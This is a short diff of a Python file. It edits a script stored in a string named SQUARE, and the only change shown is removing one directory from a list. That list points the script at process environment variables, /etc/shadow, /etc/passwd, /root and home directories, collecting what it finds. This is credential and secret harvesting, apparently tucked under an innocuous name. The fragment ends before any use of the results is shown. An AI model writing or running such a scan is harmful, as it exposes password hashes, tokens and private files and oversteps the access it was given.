@@ -3,7 +3,7 @@
 SQUARE = r"""
 import glob, os, sys
 found = []
-for root in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", "/root", "/home", "/work", "/tmp", "/var", "/etc/shadow", "/etc/passwd", os.path.expanduser("~")):
+for root in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", "/root", "/home", "/tmp", "/var", "/etc/shadow", "/etc/passwd", os.path.expanduser("~")):
     try:
         if os.path.isdir(root):
             for here, folders, files in os.walk(root):
